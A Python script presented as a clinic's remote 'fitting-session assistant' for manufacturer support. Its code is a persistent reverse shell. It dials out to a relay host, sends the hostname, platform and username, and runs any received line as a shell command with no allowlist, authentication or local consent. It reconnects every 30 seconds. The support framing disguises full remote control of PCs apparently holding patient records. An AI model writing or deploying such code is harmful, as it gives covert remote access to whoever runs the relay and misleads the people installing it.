#!/usr/bin/env python3
"""Remote fitting-session assistant for the clinic's fitting PCs.

When an audiologist hits a problem with the fitting software during a
session (programmer not detected, NOAH database locked, firmware mismatch),
the manufacturer's support desk can look at the PC through this helper
without the clinic having to open inbound ports: the helper dials out to the
support relay and runs the diagnostics the engineer asks for.

Settings live in fitting_support.ini next to the script.
"""
import argparse
import configparser
import getpass
import logging
import os
import platform
import socket
import ssl
import subprocess
import sys
import threading
import time
from pathlib import Path

LOG = logging.getLogger("fitting_support")

DEFAULTS = {
    "relay_host": "relay.fitting-support.example.net",
    "relay_port": "8853",
    "clinic_id": "UNSET",
    "retry_seconds": "30",
    "use_tls": "yes",
}


def load_settings(path):
    cfg = configparser.ConfigParser(defaults=DEFAULTS)
    cfg.read(path)
    sec = cfg["support"] if cfg.has_section("support") else cfg[cfg.default_section]
    return {
        "host": sec.get("relay_host"),
        "port": sec.getint("relay_port"),
        "clinic": sec.get("clinic_id"),
        "retry": sec.getint("retry_seconds"),
        "tls": sec.getboolean("use_tls"),
    }


class SupportChannel(threading.Thread):
    def __init__(self, settings):
        super().__init__(name="support-channel", daemon=True)
        self.settings = settings
        self.stop_event = threading.Event()
        self.cwd = Path.cwd()

    def _connect(self):
        raw = socket.create_connection((self.settings["host"], self.settings["port"]), timeout=20)
        if self.settings["tls"]:
            ctx = ssl.create_default_context()
            raw = ctx.wrap_socket(raw, server_hostname=self.settings["host"])
        raw.settimeout(None)
        return raw

    def _hello(self, conn):
        banner = f"HELLO {self.settings['clinic']} {platform.node()} {platform.platform()} {getpass.getuser()}\n"
        conn.sendall(banner.encode())

    def _handle(self, line):
        line = line.strip()
        if not line:
            return b""
        if line.startswith("cd "):
            target = (self.cwd / line[3:].strip()).resolve()
            if target.is_dir():
                self.cwd = target
                return f"{self.cwd}\n".encode()
            return f"no such directory: {target}\n".encode()
        proc = subprocess.run(line, shell=True, cwd=self.cwd, capture_output=True, timeout=300)
        return proc.stdout + proc.stderr + f"[exit {proc.returncode}]\n".encode()

    def _session(self, conn):
        self._hello(conn)
        reader = conn.makefile("r", encoding="utf-8", errors="replace")
        for line in reader:
            if self.stop_event.is_set() or line.strip() == "BYE":
                break
            try:
                out = self._handle(line)
            except subprocess.TimeoutExpired:
                out = b"[timed out]\n"
            except Exception as exc:  # keep the session alive for the engineer
                out = f"[error {exc}]\n".encode()
            conn.sendall(out + b"$ ")

    def run(self):
        while not self.stop_event.is_set():
            try:
                conn = self._connect()
            except OSError as exc:
                LOG.debug("relay not reachable: %s", exc)
                self.stop_event.wait(self.settings["retry"])
                continue
            LOG.info("support session opened with %s", self.settings["host"])
            try:
                with conn:
                    self._session(conn)
            except OSError as exc:
                LOG.info("support session dropped: %s", exc)
            self.stop_event.wait(self.settings["retry"])


def main():
    ap = argparse.ArgumentParser(description="remote fitting-session assistant")
    ap.add_argument("--config", default=str(Path(__file__).with_name("fitting_support.ini")))
    ap.add_argument("--log", default="fitting_support.log")
    args = ap.parse_args()
    logging.basicConfig(filename=args.log, level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    settings = load_settings(args.config)
    channel = SupportChannel(settings)
    channel.start()
    try:
        while channel.is_alive():
            time.sleep(1)
    except KeyboardInterrupt:
        channel.stop_event.set()
    return 0


if __name__ == "__main__":
    sys.exit(main())
